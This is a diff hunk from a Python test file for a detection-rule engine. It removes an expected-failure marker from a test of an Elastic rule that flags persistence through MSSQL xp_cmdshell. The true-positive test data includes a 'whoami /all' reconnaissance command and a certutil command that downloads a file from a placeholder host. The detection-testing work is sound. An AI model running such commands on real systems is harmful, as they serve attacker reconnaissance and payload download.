@@ -176,15 +176,7 @@ NEW_TERMS_CASES = [
          "windows/persistence_via_xp_cmdshell_mssql_stored_procedure.toml",
          "4ed493fc-d637-4a36-80ff-ac84937e5461",
          [("tp-upper-case-name", ["db-1", '"C:\\Windows\\system32\\cmd.exe" /c whoami /all']),
-          ("tp-certutil", ["db-1", "certutil.exe -urlcache -f http://x/a a"])], SINCE,
-         marks=(pytest.mark.xfail(strict=True, reason=(
-             "Elastic Defend maps process.name.caseless as a multi-field of process.name "
-             "(keyword, lowercase normalizer: elastic/endpoint-package "
-             "custom_schemas/custom_process.yml; KQL-SEMANTICS.md §5.2, §5.16), so in ES an "
-             "event with only process.name: CMD.EXE matches process.name.caseless:\"cmd.exe\". "
-             "Lanner's store derives no .caseless multi-field from the parent without an "
-             "explicit mapping: the field is unmapped and the clause never matches "
-             "(tp-upper-case-name gets no alert).")),)),
+          ("tp-certutil", ["db-1", "certutil.exe -urlcache -f http://x/a a"])], SINCE),
     # The same rule through `process.pe.original_file_name:"Cmd.Exe"` (no .caseless needed):
     # a quoted value with `\"` and a trailing space is an exact command line; `\\\\*` is a
     # UNC prefix; `("@echo" and "@for")` needs both values in the array.
